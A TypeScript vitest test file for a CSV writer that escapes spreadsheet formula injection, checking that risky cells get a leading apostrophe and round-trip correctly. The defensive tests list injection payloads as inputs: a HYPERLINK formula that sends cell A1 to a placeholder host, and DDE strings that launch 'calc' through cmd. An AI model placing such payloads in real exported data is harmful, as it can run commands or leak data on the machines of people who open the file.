import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvText } from '../../../shared/csv/write';

/** Reads the text back the way a spreadsheet import does (quotes undone, no formula escaping undone). */
const cells = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('the shared CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+62 812 0000 0000'],
    ['-2+3+cmd|" /C calc"!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('escapes %j so a spreadsheet shows it as text', (payload) => {
    const [[cell]] = cells(csvText(['judul'], [[payload]])).slice(1) as [[string]];
    expect(cell).toBe(`'${payload}`);
  });

  it('escapes a formula that goes on after a line break (imported titles keep their inner newlines)', () => {
    for (const payload of ['=HYPERLINK("http://contoh.invalid","klik")\nKeripik Pisang 250 gr', '=1+1\r\nbaris dua', '@SUM(A1:A9)\n']) {
      const text = csvText(['judul', 'skor'], [[payload, 80]]);
      expect(cells(text)[1]).toEqual([`'${payload}`, '80']);
      expect(text).not.toMatch(/(^|,|")[=@]/m);
    }
  });

  it('leaves numbers, plain negative numbers and a lone "-" as they are', () => {
    expect(csvLine([-5, 0, 12.5, '-5', '-12,5', '-', 'Keripik - Pisang', ''])).toBe('-5,0,12.5,-5,"-12,5",-,Keripik - Pisang,');
    expect(csvCell('-5+A1')).toBe("'-5+A1");
    expect(csvCell('-')).toBe('-');
  });

  it('quotes separators, quotes, line breaks and edge spaces, and round-trips through a CSV reader', () => {
    const row = ['Kopi, "Gayo" 250 gr', 'baris 1\nbaris 2', ' spasi ', null, undefined, true, Number.NaN];
    const text = csvText(['a', 'b', 'c', 'd', 'e', 'f', 'g'], [row]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(cells(text)[1]).toEqual(['Kopi, "Gayo" 250 gr', 'baris 1\nbaris 2', ' spasi ', '', '', 'true', '']);
  });

  it('differs from papaparse\'s escapeFormulae, which lets a multi-line formula through', () => {
    const payload = '=HYPERLINK("http://contoh.invalid","klik")\nlanjut';
    const papa = Papa.unparse({ fields: ['judul'], data: [[payload]] }, { escapeFormulae: true });
    expect(cells(papa)[1]![0]).toBe(payload);
    expect(cells(csvText(['judul'], [[payload]]))[1]![0]).toBe(`'${payload}`);
  });
});
